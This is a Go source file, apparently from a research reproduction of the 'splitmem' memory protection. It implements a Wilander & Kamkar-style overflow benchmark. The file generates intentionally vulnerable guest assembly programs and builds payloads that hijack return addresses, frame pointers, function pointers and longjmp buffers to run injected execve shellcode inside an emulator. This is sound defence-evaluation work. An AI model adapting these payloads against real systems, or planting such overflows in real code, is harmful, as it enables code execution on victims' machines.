@@ -1,0 +1,638 @@
+package attacks
+
+import (
+	"fmt"
+
+	"splitmem"
+	"splitmem/internal/guest"
+)
+
+// The Wilander & Kamkar-style benchmark (§6.1.1, Table 1): every
+// combination of control-flow hijack technique and injection segment. Each
+// cell generates a dedicated vulnerable guest program, delivers real
+// shellcode plus an overflow payload, and classifies the outcome.
+
+// Technique is the control-flow hijack method.
+type Technique int
+
+// Hijack techniques, following Wilander & Kamkar's taxonomy.
+const (
+	TechRet          Technique = iota // overwrite the function return address
+	TechBasePtr                       // overwrite the saved base (frame) pointer
+	TechFuncPtrVar                    // overwrite a function-pointer variable
+	TechFuncPtrParam                  // overwrite a function-pointer parameter
+	TechLongjmpVar                    // overwrite a longjmp buffer variable
+	TechLongjmpParam                  // overwrite a longjmp buffer parameter
+)
+
+// Techniques lists all hijack techniques in table order.
+func Techniques() []Technique {
+	return []Technique{TechRet, TechBasePtr, TechFuncPtrVar, TechFuncPtrParam, TechLongjmpVar, TechLongjmpParam}
+}
+
+// String names the technique as in Table 1.
+func (t Technique) String() string {
+	switch t {
+	case TechRet:
+		return "Return address"
+	case TechBasePtr:
+		return "Old base pointer"
+	case TechFuncPtrVar:
+		return "Function pointer variable"
+	case TechFuncPtrParam:
+		return "Function pointer parameter"
+	case TechLongjmpVar:
+		return "Longjmp buffer variable"
+	case TechLongjmpParam:
+		return "Longjmp buffer parameter"
+	}
+	return "?"
+}
+
+// Segment is where the attack code is injected.
+type Segment int
+
+// Injection segments (Table 1 columns).
+const (
+	SegData Segment = iota
+	SegBSS
+	SegHeap
+	SegStack
+)
+
+// Segments lists all injection segments in table order.
+func Segments() []Segment { return []Segment{SegData, SegBSS, SegHeap, SegStack} }
+
+// String names the segment.
+func (s Segment) String() string {
+	switch s {
+	case SegData:
+		return "data"
+	case SegBSS:
+		return "bss"
+	case SegHeap:
+		return "heap"
+	case SegStack:
+		return "stack"
+	}
+	return "?"
+}
+
+// victimSource generates the vulnerable program for one benchmark cell.
+// Every program:
+//  1. obtains a 256-byte injection buffer in the requested segment and
+//     leaks its address ("BUF xxxxxxxx"), standing in for the information
+//     leaks the real exploits use;
+//  2. reads 256 bytes of attack code into it;
+//  3. runs the technique-specific vulnerable function, which overflows a
+//     64-byte buffer with up to 512 attacker bytes;
+//  4. prints "SURVIVED" if control flow was never hijacked.
+func victimSource(tech Technique, seg Segment) string {
+	var alloc string
+	switch seg {
+	case SegStack:
+		alloc = `
+    sub esp, 256
+    mov esi, esp            ; codebuf on the stack`
+	case SegHeap:
+		alloc = `
+    mov eax, 256
+    push eax
+    call malloc
+    add esp, 4
+    mov esi, eax            ; codebuf on the heap`
+	case SegBSS:
+		alloc = `
+    mov esi, bssbuf         ; codebuf in bss`
+	case SegData:
+		alloc = `
+    mov esi, databuf        ; codebuf in data`
+	}
+
+	var callVuln, vuln string
+	switch tech {
+	case TechRet:
+		callVuln = "    call vuln"
+		vuln = `
+vuln:
+    push ebp
+    mov ebp, esp
+    sub esp, 64
+    mov eax, 512
+    push eax
+    lea eax, [ebp-64]
+    push eax
+    mov eax, 0
+    push eax
+    call read_exact         ; overflows locals, saved ebp, return address
+    add esp, 12
+    mov esp, ebp
+    pop ebp
+    ret`
+	case TechBasePtr:
+		callVuln = "    call outer"
+		vuln = `
+outer:
+    push ebp
+    mov ebp, esp
+    call vuln
+ret_outer:
+    mov esp, ebp            ; ebp was swapped for the attacker's fake frame
+    pop ebp
+    ret
+vuln:
+    push ebp
+    mov ebp, esp
+    sub esp, 64
+    mov eax, 512
+    push eax
+    lea eax, [ebp-64]
+    push eax
+    mov eax, 0
+    push eax
+    call read_exact         ; overflows only up to the saved base pointer
+    add esp, 12
+    mov esp, ebp
+    pop ebp
+    ret`
+	case TechFuncPtrVar:
+		vuln = funcPtrVarVuln(seg)
+		callVuln = "    call vuln"
+	case TechFuncPtrParam:
+		callVuln = `
+    mov eax, benign
+    push eax
+    call vuln
+    add esp, 4`
+		vuln = `
+vuln:
+    push ebp
+    mov ebp, esp
+    sub esp, 64
+    mov eax, 512
+    push eax
+    lea eax, [ebp-64]
+    push eax
+    mov eax, 0
+    push eax
+    call read_exact         ; overflows through to the fptr parameter
+    add esp, 12
+    load eax, [ebp+8]
+    call eax
+    mov esp, ebp
+    pop ebp
+    ret
+benign:
+    ret`
+	case TechLongjmpVar:
+		vuln = longjmpVarVuln(seg)
+		callVuln = "    call vuln"
+	case TechLongjmpParam:
+		callVuln, vuln = longjmpParamVuln(seg)
+	}
+
+	statics := segStatics(tech, seg)
+
+	return fmt.Sprintf(`
+_start:%s
+    ; leak the injection buffer address: "BUF xxxxxxxx\n"
+    push esi
+    mov eax, leakbuf
+    push eax
+    call itoa_hex
+    add esp, 8
+    mov eax, leakpfx
+    push eax
+    call print
+    add esp, 4
+    mov eax, leakbuf
+    push eax
+    call print
+    add esp, 4
+    mov eax, newline
+    push eax
+    call print
+    add esp, 4
+    ; receive 256 bytes of "attack code" into the buffer
+    mov eax, 256
+    push eax
+    push esi
+    mov eax, 0
+    push eax
+    call read_exact
+    add esp, 12
+%s
+    mov eax, survived
+    push eax
+    call print
+    add esp, 4
+    mov eax, 0
+    push eax
+    call exit
+%s
+.data
+leakpfx:  .asciz "BUF "
+newline:  .asciz "\n"
+survived: .asciz "SURVIVED\n"
+leakbuf:  .space 12
+%s
+`, alloc, callVuln, vuln, statics)
+}
+
+func funcPtrVarVuln(seg Segment) string {
+	switch seg {
+	case SegStack:
+		return `
+vuln:
+    push ebp
+    mov ebp, esp
+    sub esp, 72
+    mov eax, benign
+    store [ebp-8], eax      ; fptr above the buffer
+    mov eax, 512
+    push eax
+    lea eax, [ebp-72]
+    push eax
+    mov eax, 0
+    push eax
+    call read_exact         ; overflows into the fptr
+    add esp, 12
+    load eax, [ebp-8]
+    call eax
+    mov esp, ebp
+    pop ebp
+    ret
+benign:
+    ret`
+	case SegHeap:
+		return `
+vuln:
+    push ebp
+    mov ebp, esp
+    sub esp, 8
+    mov eax, 72
+    push eax
+    call malloc
+    add esp, 4
+    store [ebp-4], eax      ; p: 64-byte buffer + fptr at p+64
+    mov ecx, eax
+    mov eax, benign
+    store [ecx+64], eax
+    mov eax, 512
+    push eax
+    load eax, [ebp-4]
+    push eax
+    mov eax, 0
+    push eax
+    call read_exact         ; overflows into the fptr
+    add esp, 12
+    load ecx, [ebp-4]
+    load eax, [ecx+64]
+    call eax
+    mov esp, ebp
+    pop ebp
+    ret
+benign:
+    ret`
+	default: // bss / data statics vbuf + vfptr
+		return `
+vuln:
+    push ebp
+    mov ebp, esp
+    mov eax, benign
+    mov ecx, vfptr
+    store [ecx], eax
+    mov eax, 512
+    push eax
+    mov eax, vbuf
+    push eax
+    mov eax, 0
+    push eax
+    call read_exact         ; overflows the static buffer into the fptr
+    add esp, 12
+    mov ecx, vfptr
+    load eax, [ecx]
+    call eax
+    mov esp, ebp
+    pop ebp
+    ret
+benign:
+    ret`
+	}
+}
+
+func longjmpVarVuln(seg Segment) string {
+	switch seg {
+	case SegStack:
+		return `
+vuln:
+    push ebp
+    mov ebp, esp
+    sub esp, 88
+    lea eax, [ebp-24]       ; jmp_buf above the buffer
+    push eax
+    call setjmp
+    add esp, 4
+    cmp eax, 0
+    jnz vuln_done
+    mov eax, 512
+    push eax
+    lea eax, [ebp-88]
+    push eax
+    mov eax, 0
+    push eax
+    call read_exact         ; overflows into the jmp_buf
+    add esp, 12
+    mov eax, 1
+    push eax
+    lea eax, [ebp-24]
+    push eax
+    call longjmp
+vuln_done:
+    mov esp, ebp
+    pop ebp
+    ret`
+	case SegHeap:
+		return `
+vuln:
+    push ebp
+    mov ebp, esp
+    sub esp, 8
+    mov eax, 88
+    push eax
+    call malloc
+    add esp, 4
+    store [ebp-4], eax      ; p: 64-byte buffer + jmp_buf at p+64
+    mov ecx, eax
+    lea eax, [ecx+64]
+    push eax
+    call setjmp
+    add esp, 4
+    cmp eax, 0
+    jnz vuln_done
+    mov eax, 512
+    push eax
+    load eax, [ebp-4]
+    push eax
+    mov eax, 0
+    push eax
+    call read_exact         ; overflows into the jmp_buf
+    add esp, 12
+    mov eax, 1
+    push eax
+    load ecx, [ebp-4]
+    lea eax, [ecx+64]
+    push eax
+    call longjmp
+vuln_done:
+    mov esp, ebp
+    pop ebp
+    ret`
+	default: // bss / data statics vbuf + vjb
+		return `
+vuln:
+    push ebp
+    mov ebp, esp
+    mov eax, vjb
+    push eax
+    call setjmp
+    add esp, 4
+    cmp eax, 0
+    jnz vuln_done
+    mov eax, 512
+    push eax
+    mov eax, vbuf
+    push eax
+    mov eax, 0
+    push eax
+    call read_exact         ; overflows the static buffer into the jmp_buf
+    add esp, 12
+    mov eax, 1
+    push eax
+    mov eax, vjb
+    push eax
+    call longjmp
+vuln_done:
+    mov esp, ebp
+    pop ebp
+    ret`
+	}
+}
+
+func longjmpParamVuln(seg Segment) (callVuln, vuln string) {
+	switch seg {
+	case SegStack:
+		callVuln = `
+    sub esp, 88
+    mov edi, esp            ; stack vbuf (64) + jmp_buf (24)
+    push edi                ; vbuf arg
+    lea eax, [edi+64]
+    push eax                ; jbp arg
+    call vuln
+    add esp, 8`
+	case SegHeap:
+		callVuln = `
+    mov eax, 88
+    push eax
+    call malloc
+    add esp, 4
+    mov edi, eax            ; heap vbuf (64) + jmp_buf (24)
+    push edi
+    lea eax, [edi+64]
+    push eax
+    call vuln
+    add esp, 8`
+	default:
+		callVuln = `
+    mov eax, vbuf
+    push eax
+    mov eax, vjb
+    push eax
+    call vuln
+    add esp, 8`
+	}
+	vuln = `
+vuln:
+    push ebp
+    mov ebp, esp
+    load eax, [ebp+8]       ; jmp_buf parameter
+    push eax
+    call setjmp
+    add esp, 4
+    cmp eax, 0
+    jnz vuln_done
+    mov eax, 512
+    push eax
+    load eax, [ebp+12]      ; vulnerable buffer
+    push eax
+    mov eax, 0
+    push eax
+    call read_exact         ; overflows into the jmp_buf
+    add esp, 12
+    mov eax, 1
+    push eax
+    load eax, [ebp+8]
+    push eax
+    call longjmp
+vuln_done:
+    mov esp, ebp
+    pop ebp
+    ret`
+	return callVuln, vuln
+}
+
+// segStatics emits the segment-resident buffers each cell needs.
+func segStatics(tech Technique, seg Segment) string {
+	var sb string
+	needVulnStatics := (tech == TechFuncPtrVar || tech == TechLongjmpVar || tech == TechLongjmpParam) &&
+		(seg == SegBSS || seg == SegData)
+	switch seg {
+	case SegBSS:
+		sb = ".section bss 0x08072000 rw\nbssbuf: .space 256\n"
+		if needVulnStatics {
+			sb += "vbuf: .space 64\n"
+			if tech == TechFuncPtrVar {
+				sb += "vfptr: .word 0\n"
+			} else {
+				sb += "vjb: .space 24\n"
+			}
+		}
+	case SegData:
+		sb = ".section vdata 0x08076000 rw\ndatabuf: .space 256, 0x41\n"
+		if needVulnStatics {
+			sb += "vbuf: .space 64, 0x42\n"
+			if tech == TechFuncPtrVar {
+				sb += "vfptr: .word 0\n"
+			} else {
+				sb += "vjb: .space 24\n"
+			}
+		}
+	default:
+		if needVulnStatics {
+			// unreachable: stack/heap variants carry their own buffers
+			sb = ""
+		}
+	}
+	return sb
+}
+
+// buildPayload constructs the overflow payload for a cell, given the leaked
+// injection-buffer address and the program symbol table.
+func buildPayload(tech Technique, codebuf uint32, syms map[string]uint32) []byte {
+	junk := func(n int) []byte { return pad(nil, n, 0x41) }
+	switch tech {
+	case TechRet:
+		p := junk(64)
+		p = append(p, le32(codebuf+240)...) // saved ebp: anywhere writable
+		p = append(p, le32(codebuf)...)     // return address -> injected code
+		return p
+	case TechBasePtr:
+		// Fake frame at codebuf+192: [junk][&codebuf]; only the saved base
+		// pointer is overwritten — the return address stays intact.
+		p := junk(64)
+		p = append(p, le32(codebuf+192)...)
+		return p
+	case TechFuncPtrVar:
+		p := junk(64)
+		p = append(p, le32(codebuf)...)
+		return p
+	case TechFuncPtrParam:
+		p := junk(64)
+		p = append(p, le32(codebuf+240)...) // saved ebp (unused before call)
+		p = append(p, le32(syms["benign"])...)
+		p = append(p, le32(codebuf)...) // the parameter
+		return p
+	case TechLongjmpVar, TechLongjmpParam:
+		p := junk(64)
+		p = append(p, le32(0)...)           // ebx
+		p = append(p, le32(0)...)           // esi
+		p = append(p, le32(0)...)           // edi
+		p = append(p, le32(codebuf+240)...) // ebp
+		p = append(p, le32(codebuf+224)...) // esp: scratch inside codebuf
+		p = append(p, le32(codebuf)...)     // eip -> injected code
+		return p
+	}
+	return nil
+}
+
+// shellcodeFor builds the injected payload for a cell: shellcode padded to
+// the 256-byte code buffer, with the base-pointer technique's fake frame
+// planted at offset 192.
+func shellcodeFor(tech Technique, codebuf uint32) []byte {
+	sc := ExecveShellcode(codebuf)
+	sc = pad(sc, 192, 0x90)
+	if tech == TechBasePtr {
+		sc = append(sc, le32(0x42424242)...) // popped into ebp
+		sc = append(sc, le32(codebuf)...)    // popped into eip
+	}
+	return pad(sc, 256, 0x90)
+}
+
+// CellResult is one Table 1 cell.
+type CellResult struct {
+	Tech     Technique
+	Seg      Segment
+	NA       bool // attack does not work even unprotected
+	Result   Result
+	Baseline Result // outcome on the unprotected machine
+}
+
+// RunCell executes one benchmark cell under cfg and, for reference, on an
+// unprotected machine.
+func RunCell(cfg splitmem.Config, tech Technique, seg Segment) (CellResult, error) {
+	baseline, err := runCellOnce(splitmem.Config{Protection: splitmem.ProtNone}, tech, seg)
+	if err != nil {
+		return CellResult{}, err
+	}
+	protected, err := runCellOnce(cfg, tech, seg)
+	if err != nil {
+		return CellResult{}, err
+	}
+	return CellResult{
+		Tech:     tech,
+		Seg:      seg,
+		NA:       !baseline.Succeeded(),
+		Result:   protected,
+		Baseline: baseline,
+	}, nil
+}
+
+func runCellOnce(cfg splitmem.Config, tech Technique, seg Segment) (Result, error) {
+	src := victimSource(tech, seg)
+	t, err := NewTarget(cfg, src, fmt.Sprintf("wilander-%d-%d", tech, seg))
+	if err != nil {
+		return Result{}, err
+	}
+	prog, err := splitmem.Assemble(guest.WithCRT(src))
+	if err != nil {
+		return Result{}, err
+	}
+	out, ok := t.WaitOutput("BUF ")
+	if !ok {
+		return Result{Notes: "no leak: " + out}, nil
+	}
+	codebuf, err := parseLeak(out, "BUF ")
+	if err != nil {
+		return Result{}, err
+	}
+	t.Send(shellcodeFor(tech, codebuf))
+	t.Send(buildPayload(tech, codebuf, prog.Symbols))
+	t.Close()
+	t.Run()
+	return t.Result(), nil
+}
+
+// RunWilander executes the full Table 1 grid under cfg.
+func RunWilander(cfg splitmem.Config) ([]CellResult, error) {
+	var out []CellResult
+	for _, tech := range Techniques() {
+		for _, seg := range Segments() {
+			cell, err := RunCell(cfg, tech, seg)
+			if err != nil {
+				return nil, fmt.Errorf("%v/%v: %w", tech, seg, err)
+			}
+			out = append(out, cell)
+		}
+	}
+	return out, nil
+}
